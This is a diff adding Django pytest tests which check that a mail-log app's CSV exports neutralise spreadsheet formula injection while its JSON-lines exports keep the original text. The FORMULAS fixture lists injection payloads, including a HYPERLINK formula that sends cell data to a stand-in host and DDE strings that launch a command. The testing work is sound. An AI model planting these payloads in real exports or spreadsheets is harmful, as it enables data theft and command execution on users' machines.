@@ -6,12 +6,13 @@ import json
 from datetime import timedelta
 
 import pytest
+from django.contrib.auth.models import User
 from django.core.mail import EmailMessage
 from django.core.management import CommandError, call_command
 from django.utils import timezone
 
 from tests.testapp.models import Invoice
-from tests.utils import post_json, send_with_ids
+from tests.utils import client_for, post_json, send_with_ids
 from wagtail_maillog import label
 from wagtail_maillog.models import Message, Recipient
 
@@ -97,3 +98,79 @@ def test_bad_arguments_give_a_clear_error(log):
         export("--status", "lost")
     with pytest.raises(CommandError, match="Not an ISO date"):
         export("--since", "yesterday")
+
+
+#: Cells a spreadsheet would run as a formula, as outsiders can write them.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "\n=1+1",
+    "＝1+1",
+]
+
+
+@pytest.fixture
+def hostile(client, webhook_auth):
+    """A subject, an address, a display name and an ESP's bounce text, all formula-like."""
+    rows = []
+    for i, formula in enumerate(FORMULAS):
+        message = send_with_ids([f"-{i}+x@example.com"], f"pm-h{i}", subject=f"Hi {i}")
+        Message.objects.filter(pk=message.pk).update(subject=formula)
+        bounce = {
+            "RecordType": "Bounce",
+            "ID": 100 + i,
+            "Type": "HardBounce",
+            "MessageID": f"pm-h{i}",
+            "Email": f"-{i}+x@example.com",
+            "BouncedAt": "2026-11-05T16:33:54Z",
+            "Description": formula,
+            "Details": formula,
+        }
+        post_json(client, "/anymail/postmark/tracking/", bounce, webhook_auth)
+        rows.append(message)
+    named = EmailMessage("Named", "b", "a@example.com", ['"=1+1, @evil" <named@example.com>'])
+    named.send()
+    return rows
+
+
+def _unsafe(cell: str) -> bool:
+    starts = ("=", "+", "-", "@", "\t", "\r", "＝")
+    return cell.startswith(starts) or cell.lstrip().startswith(starts)
+
+
+def test_csv_cells_are_inert_and_json_lines_keep_the_text(hostile):
+    table = list(csv.reader(io.StringIO(export("--format", "csv"))))
+    header, body = table[0], table[1:]
+    assert len(body) == len(FORMULAS) + 1
+    for row in body:
+        for cell in row:
+            assert not _unsafe(cell), cell
+    by_to = {row["to"]: row for row in (dict(zip(header, r, strict=True)) for r in body)}
+    first = by_to["'-0+x@example.com"]  # the address, neutralised
+    assert first["subject"] == "'" + FORMULAS[0]
+    assert first["reason"].startswith("'=HYPERLINK(")  # the ESP's bounce text
+    assert by_to["'-6+x@example.com"]["subject"] == "'  =1+1"  # after leading spaces too
+    assert by_to["named@example.com"]["subject"] == "Named"  # ordinary text untouched
+
+    exact = {line["to"]: line for line in map(json.loads, export().splitlines())}
+    for i, formula in enumerate(FORMULAS):
+        assert exact[f"-{i}+x@example.com"]["subject"] == formula
+    assert exact["-0+x@example.com"]["reason"] == first["reason"][1:]
+
+
+def test_the_admin_export_is_inert_too(hostile):
+    admin = client_for(User.objects.create_superuser("admin", "admin@example.com", "pw"))
+    body = b"".join(admin.get("/admin/maillog/?export=csv").streaming_content).decode()
+    table = list(csv.reader(io.StringIO(body)))
+    assert len(table) == len(FORMULAS) + 2
+    for row in table[1:]:
+        for cell in row:
+            assert not _unsafe(cell), cell
+    jsonl = b"".join(admin.get("/admin/maillog/?export=jsonl").streaming_content).decode()
+    subjects = {json.loads(line)["subject"] for line in jsonl.splitlines()}
+    assert subjects == {*FORMULAS, "Named"}
